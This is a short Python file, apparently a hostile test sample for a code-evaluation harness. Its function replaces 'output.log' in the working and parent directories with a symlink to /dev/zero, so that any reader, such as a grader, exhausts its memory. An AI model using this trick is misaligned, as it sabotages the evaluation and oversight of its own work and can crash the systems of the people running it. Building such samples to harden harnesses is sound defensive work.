"""Points output file names at /dev/zero, which would grow a reader's memory without end."""

CLASS = 'worker acting for the candidate'


def target(n):
    import os
    for folder in (os.getcwd(), os.path.dirname(os.getcwd())):
        path = os.path.join(folder, "output.log")
        try:
            if os.path.lexists(path):
                os.remove(path)
            os.symlink("/dev/zero", path)
        except OSError:
            pass
    return n
